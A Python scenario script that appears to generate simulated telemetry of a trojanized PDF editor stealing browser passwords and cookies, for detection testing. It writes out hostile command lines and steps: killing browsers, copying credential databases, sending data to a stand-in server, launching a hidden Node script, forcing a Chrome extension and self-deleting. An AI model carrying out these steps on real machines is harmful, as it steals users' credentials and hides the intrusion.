"""A PDF editor from an advertisement works for weeks, then its updater is told to take the browsers' secrets, runs
scripts in Node and forces an extension; a run under other eyes ends early. Resembles TamperedChef and EvilAI
(2025-2026)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2025-08-21T09:33:12", "user": "KONTOR-07\\elin", "home": "C:\\Users\\elin", "computer": "KONTOR-07",
           "os_version": (10, 0, 22631)}
MAKER = {"company": "GLINT SOFTWARE SDN. BHD.", "description": "PDF Editor", "version": "1.0.40"}
SITE, SERVER = ("198.51.100.150", 443), ("203.0.113.121", 443)
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
FORCED = r"HKCU\Software\Policies\Google\Chrome\ExtensionInstallForcelist"
TASKS = ("PDFEditorScheduledTask", "PDFEditorUScheduledTask")
PRODUCTS = [r"HKLM\SOFTWARE\KasperskyLab", r"HKLM\SOFTWARE\WOW6432Node\KasperskyLab", r"HKLM\SOFTWARE\Bitdefender\About",
            r"HKLM\SOFTWARE\G DATA", r"HKLM\SOFTWARE\WOW6432Node\Zillya\Zillya Antivirus", r"HKLM\SOFTWARE\ESET\NOD",
            r"HKLM\SOFTWARE\Fortinet\FortiClient"]


def install(c, desktop):
    setup = c.spawn(desktop.explorer, c.home + r"\Downloads\PDF Editor.exe", **MAKER)
    deeds.begin(c, setup)
    c.host(SITE[0], "vault.appsuites.example")
    desktop.resolve()
    c.exchange(setup, SITE, 50900, [517, 210], [14_600] * 10)
    home = c.home + r"\AppData\Local\Programs\PDF Editor"
    c.folder(setup, home)
    for name, size in ((r"\PDF Editor.exe", 3_200_000), (r"\ffmpeg.dll", 700_000), (r"\resources\app.asar", 2_100_000),
                       (r"\UtilityAddon.node", 480_000)):
        c.drop(setup, home + name, size, chunk=524_288)
    program = home + r"\PDF Editor.exe"
    with c.behaviour("its updater starts at log-on, with a word of command", "low", "T1547.001", setup,
                     "PDFEditorUpdater"):
        c.key(setup, RUN)
        c.set_value(setup, RUN + r"\PDFEditorUpdater", "REG_SZ", '"%s" --cm=--fullupdate' % program)
    with c.behaviour("two tasks under its name", "low", "T1053.005", setup, TASKS):
        c.load(setup, r"C:\Windows\System32\taskschd.dll")
        for number, name in enumerate(TASKS):
            deeds.task(c, desktop, name, 51 + number)
    c.exit(setup)
    return program, setup


def early_end(c, desktop, program):
    """A start by the task that meets what it does not like."""
    run = c.spawn(desktop.scheduler, program, '"%s" --cm=--partialupdate' % program, user=c.user, integrity="Medium",
                  session=1, sid=desktop.explorer.sid, **MAKER)
    with c.behaviour("looks for virtual machines, and ends", "medium", ("T1497.001", "T1497", "T1480", "T1082"), run,
                     ("VBoxGuest", "vmci", "SystemManufacturer")):
        for name in ("VBoxGuest", "VBoxSF", "vmci", "vmhgfs", "QEMU-GA"):
            c.open_key(run, deeds.SERVICES + "\\" + name, result="NAME NOT FOUND")
        c.query(run, r"HKLM\HARDWARE\DESCRIPTION\System\BIOS\SystemManufacturer", "REG_SZ", "Microsoft Corporation")
        c.query(run, r"HKLM\HARDWARE\DESCRIPTION\System\BIOS\SystemProductName", "REG_SZ", "Virtual Machine")
        for name in ("VBoxMouse.sys", "vmmouse.sys", "vioscsi.sys"):
            c.probe(run, "C:\\Windows\\System32\\drivers\\" + name)
        c.exit(run, 3)
    return run


def look(c, editor, doers):
    with c.behaviour("looks for the settings of seven antivirus makers", "medium", ("T1518.001", "T1012"), doers,
                     ("KasperskyLab", "Bitdefender", "Zillya")):
        for key in PRODUCTS:
            c.open_key(editor, key, result="NAME NOT FOUND")
    with c.behaviour("reads the machine's identity", "low", ("T1082", "T1012"), doers, "MachineGuid"):
        c.query(editor, r"HKLM\SOFTWARE\Microsoft\Cryptography\MachineGuid", "REG_SZ",
                "51f0c2a4-77be-4c1d-9a53-0d2e6b1f84aa")


def steal(c, editor, doers):
    local, roaming = c.home + r"\AppData\Local", c.home + r"\AppData\Roaming"
    with deeds.told(c, "ends the browsers, for their files to be free", "medium", ("T1489", "T1555.003", "T1539"), doers,
                    "taskkill") as helpers:
        for name in ("chrome.exe", "msedge.exe", "firefox.exe"):
            helpers += deeds.command(c, editor, "taskkill /F /IM " + name)
    with c.behaviour("copies and reads the passwords and cookies of Chrome and Edge", "high", ("T1555.003", "T1539"), doers,
                     ("Login Data", "Cookies", "Web Data")):
        for folder in (r"\Google\Chrome\User Data", r"\Microsoft\Edge\User Data"):
            c.read(editor, local + folder + r"\Local State", 12_000)
            for name in ("Login Data", "Web Data", r"Network\Cookies"):
                path = local + folder + "\\Default\\" + name
                c.read(editor, path, 60_000)
                c.drop(editor, path + " Sync", 60_000)
                c.read(editor, path + " Sync", 60_000)
    with c.behaviour("reads the passwords and cookies of Firefox", "high", ("T1555.003", "T1539"), doers,
                     ("key4.db", "logins.json", "cookies.sqlite")):
        profile = roaming + r"\Mozilla\Firefox\Profiles\w3k8d1zp.default-release"
        deeds.list_folder(c, editor, profile.rsplit("\\", 1)[0])
        for name in ("key4.db", "logins.json", "cookies.sqlite"):
            c.read(editor, profile + "\\" + name, 90_000)
    chrome = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
    key_file = local + r"\Temp\c_5f10.bin"
    with deeds.told(c, "code within a bare Chrome gets the key that is bound to the browser", "high",
                    ("T1055", "T1055.012", "T1555.003", "T1539"), doers, ("chrome.exe", "c_5f10.bin")) as helpers:
        browser = c.spawn(editor, chrome, '"%s"' % chrome, company="Google LLC", description="Google Chrome")
        deeds.thread(c, browser)
        elevation = c.system(r"C:\Program Files\Google\Chrome\Application\139.0.7258.67\elevation_service.exe")
        c.query(elevation, r"HKLM\SOFTWARE\Google\Chrome\IElevator", None)
        c.drop(browser, key_file, 32)
        c.read(editor, key_file, 32)
        c.exit(browser, 1)
        helpers.append(browser)
    c.delete(editor, key_file)
    c.host(SERVER[0], "y2iax5.example")
    with c.behaviour("sends it to its server", "high", ("T1041", "T1071.001"), doers, ("y2iax5.example", SERVER[0])):
        c.exchange(editor, SERVER, 50920, [517, 900, 60_000, 60_000, 58_000, 60_000, 41_000], [300])
        c.exchange(editor, SERVER, 50921, [517, 900, 60_000, 60_000, 60_000, 22_000], [300])


def command(c, desktop, editor, doers):
    """What the server has it do: a script in Node, an extension, and in the end its removal."""
    local = c.home + r"\AppData\Local"
    script = local + r"\Temp\7a3f61c2-84d0or.js"
    node = local + r"\Programs\nodejs\node.exe"
    c.exchange(editor, SERVER, 50930, [517, 300], [14_600] * 10)
    c.drop(editor, node, 3_100_000, chunk=524_288)
    c.drop(editor, script, 31_000)
    with deeds.told(c, "a shell starts Node, minimised, with a script among temporary files", "high",
                    ("T1059.007", "T1059.003"), doers, ("84d0or.js", "node.exe")) as helpers:
        line = '"%%^LOCALAPPDATA%%\\Programs\\nodejs\\node.exe" "%s"' % script
        shell = deeds.tool(c, editor, 'cmd.exe /d /s /c "start "" /min %s"' % line)
        runner = c.spawn(shell, node, '"%s" "%s"' % (node, script), company="Node.js",
                         description="Node.js JavaScript Runtime")
        c.read(runner, script, 31_000)
        c.exit(shell)
        helpers += [shell, runner]
    doers += (runner,)
    with deeds.told(c, "asks by WMI which scripts run", "low", ("T1057", "T1047"), doers, "Win32_Process") as helpers:
        helpers += deeds.command(c, runner, "powershell.exe -NoProfile -Command \"Get-WmiObject Win32_Process | "
                                 "Where-Object { $_.Name -eq 'node.exe' } | Select-Object CommandLine | ConvertTo-Json\"")
    with c.behaviour("forces an extension upon Chrome", "high", ("T1176.001", "T1176", "T1112"), doers,
                     ("ExtensionInstallForcelist", "hdkjmpoclbifnegafmhpgdkjeobnlcia")):
        c.key(runner, FORCED, new=True)
        c.set_value(runner, FORCED + r"\1", "REG_SZ", "hdkjmpoclbifnegafmhpgdkjeobnlcia;https://y2iax5.example/u.xml")
    desktop.murmur(4)
    with deeds.told(c, "removes its own folder by a shell", "medium", "T1070.004", doers,
                    ("rmdir", "UtilityAddon.node")) as helpers:
        folder = local + r"\Programs\PDF Editor"
        shell = deeds.tool(c, editor, 'cmd.exe /c ping -n 4 127.0.0.1 >nul & rmdir /s /q "%s"' % folder)
        pause = deeds.tool(c, shell, "ping -n 4 127.0.0.1 ")
        c.exit(editor)
        c.wait(3)
        c.exit(pause)
        for name in (r"\PDF Editor.exe", r"\ffmpeg.dll", r"\resources\app.asar", r"\UtilityAddon.node", ""):
            c.delete(shell, folder + name)
        c.exit(shell)
        helpers.append(shell)


def story(c):
    desktop = Desktop(c)
    desktop.murmur(8)
    program, setup = install(c, desktop)
    desktop.murmur(4)
    c.wait(900)
    early_end(c, desktop, program)
    desktop.murmur(4)
    c.wait(900)
    editor = c.spawn(desktop.explorer, program, '"%s" --cm=--fullupdate' % program, **MAKER)
    c.load(editor, program.rsplit("\\", 1)[0] + r"\UtilityAddon.node")
    doers = (setup, editor)
    look(c, editor, doers)
    steal(c, editor, doers)
    command(c, desktop, editor, doers)
    desktop.murmur(4)
